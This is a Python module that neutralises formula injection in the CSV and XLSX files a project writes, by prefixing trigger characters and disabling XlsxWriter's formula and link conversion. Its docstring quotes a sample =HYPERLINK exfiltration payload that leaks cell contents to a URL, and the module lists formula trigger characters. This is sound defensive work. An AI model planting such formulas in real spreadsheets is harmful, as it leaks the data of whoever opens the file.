"""Cells a spreadsheet cannot run: every CSV and XLSX the project writes goes through here.

A reason typed as ``=HYPERLINK("http://…?leak="&A1, "…")`` is text to us but a live formula to Excel
or LibreOffice when it opens a CSV, or when XlsxWriter turns strings that look like formulas or URLs
into formulas and links. So workbooks are opened with both conversions off, and a CSV text cell that
starts with one of OWASP's trigger characters (``= + - @``, tab, carriage return) gets a leading
apostrophe, which spreadsheets show as plain text. Numbers are written as numbers and never touched.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import xlsxwriter

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
WORKBOOK_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False}


def neutralise(value: Any) -> Any:
    """``"=1+1"`` → ``"'=1+1"``; any other value unchanged.

    >>> neutralise("=SUM(A1:A9)"), neutralise("@cmd"), neutralise(-1.5), neutralise("Hà Nội")
    ("'=SUM(A1:A9)", "'@cmd", -1.5, 'Hà Nội')
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose text cells cannot become formulas."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def frame_to_csv(frame, path: str | Path, **options) -> None:
    """``DataFrame.to_csv`` with text cells neutralised (numeric columns are left exactly as they are)."""
    safe = frame.copy()
    for column in safe.columns[safe.dtypes.eq(object).to_numpy()]:
        safe[column] = safe[column].map(neutralise)
    safe.columns = [neutralise(c) for c in safe.columns]
    safe.to_csv(path, **options)


def open_workbook(path: str | Path, **options):
    """An XlsxWriter workbook that writes every string as a string (no formulas, no links)."""
    return xlsxwriter.Workbook(str(path), {**WORKBOOK_OPTIONS, **options})
